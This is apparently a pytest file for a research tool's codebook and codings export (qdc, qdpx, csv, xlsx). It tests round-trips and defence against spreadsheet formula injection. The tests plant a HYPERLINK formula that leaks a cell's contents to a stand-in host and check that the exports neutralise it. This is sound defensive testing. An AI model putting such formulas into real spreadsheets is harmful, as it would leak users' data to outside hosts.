"""`topicbook export`: qdc, qdpx, csv and xlsx exports of a run re-import and round-trip."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from click.testing import CliRunner

from refi import assert_valid_refi
from topicbook.cli import main
from topicbook.codebook import load_codebook
from topicbook.codings import read_codings
from topicbook.export import read_export_codebook
from topicbook.qdc import read_qdpx
from topicbook.segment import Segment


@pytest.fixture(scope="module")
def run_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from conftest import write_planted_corpus
    from topicbook.config import load_config
    from topicbook.pipeline import run

    root = tmp_path_factory.mktemp("export")
    config = write_planted_corpus(root / "project")
    _add_background(root / "project" / "interviews")
    # the export re-reads the corpus; keep that independent of the preprocessed-corpus cache
    config.write_text(config.read_text(encoding="utf-8") + "cache:\n  enabled: false\n", encoding="utf-8")
    folder, _ = run(load_config(config), out_dir=root / "runs")
    return folder


def _add_background(interviews: Path) -> None:
    """Every answer gets 13 everyday words (conftest.BACKGROUND), as in the verdict tests: a corpus
    made of the four themes' words only gives random-word pseudo-codes theme words too, and no
    topic-code match can beat so wide a null."""
    import random

    from conftest import BACKGROUND

    rng = random.Random(3)
    for path in sorted(interviews.glob("*.txt")):
        turns = path.read_text(encoding="utf-8").split("\n\n")
        turns = [t if t.startswith("Interviewer:") or not t.strip() else
                 f"{t.rstrip().rstrip('.')} {' '.join(rng.choice(BACKGROUND) for _ in range(13))}." for t in turns]
        path.write_text("\n\n".join(turns), encoding="utf-8")


def test_alignment_names_own_topics_emergent_and_absent(run_dir: Path) -> None:
    with (run_dir / "alignment.csv").open(encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    # NMF separates the four themes; LDA at K=4 mixes sailing and music on this small corpus
    nmf = [r for r in rows if r["model"] == "nmf_k4"]
    assert {r["code"] for r in nmf if r["status"] == "own_topic"} == {"gardening", "music", "cooking"}
    for model in ("lda_k4", "nmf_k4"):
        mine = [r for r in rows if r["model"] == model]
        assert {r["code"] for r in mine if r["code"]} == {"gardening", "music", "cooking", "astronomy"}
        assert [r["code"] for r in mine if r["status"] == "absent"] == ["astronomy"]
        loose = [r for r in mine if r["status"] in ("emergent", "explained")]
        assert len(loose) == 1 and any(w in loose[0]["topic_label"] for w in ("sail", "wind", "mast", "boat", "harbour"))
        # NMF's sailing topic is emergent; LDA's mixes sailing with music, so music's evidence explains it
        assert loose[0]["status"] == "emergent" if model == "nmf_k4" else loose[0]["with_codes"] in ("", "music")


def test_qdc_export_round_trips(run_dir: Path) -> None:
    result = CliRunner().invoke(main, ["export", str(run_dir), "--format", "qdc"])
    assert result.exit_code == 0, result.output
    path = run_dir / "export" / f"{run_dir.name}.qdc"
    assert_valid_refi(path)
    book = load_codebook(path)
    original = load_codebook(run_dir / "codebook.yaml")
    assert {c.id: c for c in book.codes if c.id in original.ids()} == {c.id: c for c in original.codes}
    topics = [c for c in book.codes if c.parent == "topicbook_nmf_k4"]
    assert len(topics) == 4
    carried = sorted(c.definition.split("Carries codes: ")[1] for c in topics if "Carries codes:" in c.definition)
    assert carried == ["cooking (own topic).", "gardening (own topic).", "music (own topic)."]
    assert sum("Emergent topic: no code's evidence explains it." in c.definition for c in topics) == 1
    again = CliRunner().invoke(main, ["export", str(run_dir), "--format", "qdc"])
    assert again.exit_code == 1
    assert again.output.strip() == f"Error: {path}: already exists. Use --force to replace it, or --out to write elsewhere."
    assert CliRunner().invoke(main, ["export", str(run_dir), "--format", "qdc", "--force"]).exit_code == 0


def test_qdpx_export_round_trips(run_dir: Path) -> None:
    result = CliRunner().invoke(main, ["export", str(run_dir), "--format", "qdpx"])
    assert result.exit_code == 0, result.output
    assert_valid_refi(run_dir / "export" / f"{run_dir.name}.qdpx")
    project = read_qdpx(run_dir / "export" / f"{run_dir.name}.qdpx")
    assert len(project.sources) == 8
    assert list(project.users.values()) == ["topicbook:planted"]
    texts = {s.name: s.text for s in project.sources}
    with (run_dir / "segments.csv").open(encoding="utf-8") as fh:
        segments = list(csv.DictReader(fh))
    topic_codings = [c for c in project.codings if c.code.startswith("nmf_k4:")]
    assert len(topic_codings) == len(segments)  # one dominant topic per segment
    first = segments[0]
    assert texts[first["document"]][int(first["start"]):int(first["end"])] == first["text"]
    coded = [c for c in project.codings if c.code in {"gardening", "music", "cooking"}]
    assert coded and all(c.user.startswith("topicbook:") for c in coded)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_table_exports_round_trip(run_dir: Path, fmt: str) -> None:
    result = CliRunner().invoke(main, ["export", str(run_dir), "--format", fmt, "--force"])
    assert result.exit_code == 0, result.output
    path = run_dir / "export" / f"{run_dir.name}.{fmt}"
    book = read_export_codebook(path)
    assert {"gardening", "music", "cooking", "astronomy", "nmf_k4:T01", "lda_k4:T04"} <= set(book.ids())
    if fmt == "csv":
        codings_csv = path.with_name(f"{path.stem}_codings.csv")
        with (run_dir / "segments.csv").open(encoding="utf-8") as fh:
            segs = list(csv.DictReader(fh))
        segments = [Segment(s["segment_id"], s["document"], s["speaker"], s["role"], ((int(s["start"]), int(s["end"])),), s["text"]) for s in segs]
        human = read_codings(codings_csv, documents={}, segments=segments, segment_ids=[s.id for s in segments], codebook=book)
        assert not human.unmatched and human.labels[:, book.ids().index("nmf_k4:T01")].any()


@pytest.fixture(scope="module")
def coded_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A planted run with the researcher's codings: quotes of two answers, one by name."""
    from conftest import write_planted_corpus
    from topicbook.config import load_config
    from topicbook.pipeline import run

    root = tmp_path_factory.mktemp("coded")
    config = write_planted_corpus(root / "project")
    rows = ["document,code,text"]
    for doc, code in (("doc01", "gardening"), ("doc02", "Making music"), ("doc03", "cooking")):
        text = (root / "project" / "interviews" / f"{doc}.txt").read_text(encoding="utf-8")
        answer = [t for t in text.split("\n\n") if not t.startswith("Interviewer:")][1]
        rows.append(f"{doc},{code},\"{' '.join(answer.split(': ', 1)[1].split()[:10])}\"")
    rows.append("doc04,music,a quote that is in no interview")
    (root / "project" / "codings.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
    config.write_text(config.read_text(encoding="utf-8") + "codings:\n  path: codings.csv\ncache:\n  enabled: false\n"
                      "evaluate:\n  stability_seeds: 0\n  coherence: [u_mass]\n", encoding="utf-8")
    folder, _ = run(load_config(config), out_dir=root / "runs")
    return folder


def test_qdpx_export_holds_the_researchers_codings_as_their_own_user(coded_run: Path) -> None:
    from topicbook.codings import find_quote
    from topicbook.report.run_folder import load_run

    with (coded_run / "codings.csv").open(encoding="utf-8") as fh:
        placed = list(csv.DictReader(fh))
    run = load_run(coded_run)
    texts = {d.id: d.text for d in run.documents}
    with (coded_run.parents[1] / "project" / "codings.csv").open(encoding="utf-8") as fh:
        quotes = [r for r in csv.DictReader(fh) if r["document"] != "doc04"]
    # the placed spans are the quotes' spans in the documents, with the codes' ids
    assert [(p["document"], int(p["start"]), int(p["end"]), p["code"]) for p in placed] == [
        (q["document"], *find_quote(texts[q["document"]], q["text"]), {"Making music": "music"}.get(q["code"], q["code"]))
        for q in quotes]
    result = CliRunner().invoke(main, ["export", str(coded_run), "--format", "qdpx"])
    assert result.exit_code == 0, result.output
    path = coded_run / "export" / f"{coded_run.name}.qdpx"
    assert_valid_refi(path)
    project = read_qdpx(path)
    assert sorted(project.users.values()) == ["researcher:codings.csv", "topicbook:planted"]
    mine = [(c.document, c.start, c.end, c.code) for c in project.codings if c.user == "researcher:codings.csv"]
    assert sorted(mine) == sorted((p["document"], int(p["start"]), int(p["end"]), p["code"]) for p in placed)
    suggested = [c for c in project.codings if c.user == "topicbook:planted"]
    assert len(suggested) > len(mine)
    # read back as codings.path, only the researcher's codings count (the suggestions are not theirs)
    book = load_codebook(coded_run / "codebook.yaml")
    human = read_codings(path, documents=texts, segments=run.segments, segment_ids=run.segment_ids, codebook=book)
    assert human.n_codings == len(mine) == 3 and not human.unmatched
    assert {c.user for c in human.spans} == {"researcher:codings.csv"}


# --------------------------------------------------------------------------- spreadsheet cells

FORMULA_NAME = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
FORMULA_DEFINITION = "+1 when the respondent grows vegetables; -1 otherwise; @mentions count"
FORMULA_CODE = f"""\
  - id: formula
    name: {FORMULA_NAME!r}
    definition: {FORMULA_DEFINITION!r}
    keywords: [shovel, greenhouse]
    examples: ["=1+2", "'=already quoted"]
"""


@pytest.fixture(scope="module")
def formula_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run whose codebook text and one document id read as spreadsheet formulas."""
    from conftest import write_planted_corpus
    from topicbook.config import load_config
    from topicbook.pipeline import run

    root = tmp_path_factory.mktemp("formulas")
    config = write_planted_corpus(root / "project")
    interviews = config.parent / "interviews"
    (interviews / "doc01.txt").rename(interviews / "@doc01.txt")  # document id "@doc01"
    book = config.parent / "codebook.yaml"
    book.write_text(book.read_text(encoding="utf-8") + FORMULA_CODE, encoding="utf-8")
    config.write_text(config.read_text(encoding="utf-8").replace("  metadata: metadata.csv\n", "")
                      + "  explorer: false\nevaluate:\n  stability_seeds: 0\n  coherence: [u_mass]\n", encoding="utf-8")
    folder, _ = run(load_config(config), out_dir=root / "runs")
    return folder


SPREADSHEET_FORMULA = ("=", "+", "-", "@", "\t", "\r")


def test_csv_export_cells_never_start_a_formula_and_read_back_as_written(formula_run: Path) -> None:
    result = CliRunner().invoke(main, ["-q", "export", str(formula_run), "--format", "csv"])
    assert result.exit_code == 0, result.output
    path = formula_run / "export" / f"{formula_run.name}.csv"
    codings = path.with_name(f"{path.stem}_codings.csv")
    for table in (path, codings):
        with table.open(encoding="utf-8", newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        assert not [c for c in cells if c.startswith(SPREADSHEET_FORMULA)], table.name
    with path.open(encoding="utf-8", newline="") as handle:
        row = next(r for r in csv.DictReader(handle) if r["id"] == "formula")
    assert row["name"] == "'" + FORMULA_NAME and row["definition"] == "'" + FORMULA_DEFINITION
    assert row["examples"] == "'=1+2; '=already quoted"  # one cell: only its start counts
    book = read_export_codebook(path)  # topicbook's reader takes the apostrophe off again
    code = book.codes[book.ids().index("formula")]
    assert (code.name, code.definition, code.examples) == (FORMULA_NAME, FORMULA_DEFINITION, ("=1+2", "'=already quoted"))
    with (formula_run / "segments.csv").open(encoding="utf-8") as fh:
        segs = list(csv.DictReader(fh))
    segments = [Segment(s["segment_id"], s["document"], s["speaker"], s["role"], ((int(s["start"]), int(s["end"])),), s["text"]) for s in segs]
    human = read_codings(codings, documents={}, segments=segments, segment_ids=[s.id for s in segments], codebook=book)
    assert "@doc01" in human.documents and not human.unmatched


def test_xlsx_export_stores_formula_like_text_as_text(formula_run: Path) -> None:
    import openpyxl

    result = CliRunner().invoke(main, ["-q", "export", str(formula_run), "--format", "xlsx"])
    assert result.exit_code == 0, result.output
    path = formula_run / "export" / f"{formula_run.name}.xlsx"
    workbook = openpyxl.load_workbook(path)
    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert cells and all(c.data_type == "s" for c in cells)  # no formula cell anywhere
    risky = [c for c in cells if c.value.startswith(SPREADSHEET_FORMULA)]
    assert {c.value for c in risky} >= {FORMULA_NAME, FORMULA_DEFINITION, "@doc01"}
    assert all(c.quotePrefix for c in risky)  # shown and kept as text when edited
    book = read_export_codebook(path)
    assert book.codes[book.ids().index("formula")].name == FORMULA_NAME


# --------------------------------------------------------------------------- refused and failed exports


def _partials(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.rglob("*") if p.name.endswith(".partial"))


def test_a_refused_csv_export_leaves_no_partial_file_and_no_half_export(formula_run: Path, tmp_path: Path) -> None:
    out = tmp_path / "mine" / "book.csv"
    out.parent.mkdir()
    existing = out.with_name("book_codings.csv")
    existing.write_text("mine\n", encoding="utf-8")  # only the second file of the export exists
    result = CliRunner().invoke(main, ["export", str(formula_run), "--format", "csv", "--out", str(out)])
    assert (result.exit_code, result.output) == (1, f"Error: {existing}: already exists. Use --force to replace it.\n")
    assert sorted(p.name for p in out.parent.iterdir()) == ["book_codings.csv"]
    assert existing.read_text(encoding="utf-8") == "mine\n"


@pytest.mark.parametrize("fault", ["full disk", "bad input"])
def test_a_failed_export_leaves_no_partial_file_and_the_old_export(formula_run: Path, tmp_path: Path,
                                                                  monkeypatch: pytest.MonkeyPatch, fault: str) -> None:
    import errno
    import os

    import topicbook.export as export
    from topicbook.errors import InputError

    out = tmp_path / "mine" / "book.qdc"
    out.parent.mkdir()
    out.write_text("the previous export\n", encoding="utf-8")

    def half_written(codebook, path):  # type: ignore[no-untyped-def]
        Path(path).write_text("<half", encoding="utf-8")
        if fault == "full disk":
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        raise InputError("codebook: something the writer refuses.")

    monkeypatch.setattr(export, "write_qdc", half_written)
    result = CliRunner().invoke(main, ["export", str(formula_run), "--format", "qdc", "--out", str(out), "--force"])
    message = (f"Error: {out}: no space left on the device while writing the export. Free some space or use --out on another disk; nothing was written.\n"
               if fault == "full disk" else "Error: codebook: something the writer refuses.\n")
    assert (result.exit_code, result.output) == (1, message)
    assert sorted(p.name for p in out.parent.iterdir()) == ["book.qdc"]
    assert out.read_text(encoding="utf-8") == "the previous export\n"
    assert _partials(formula_run) == []
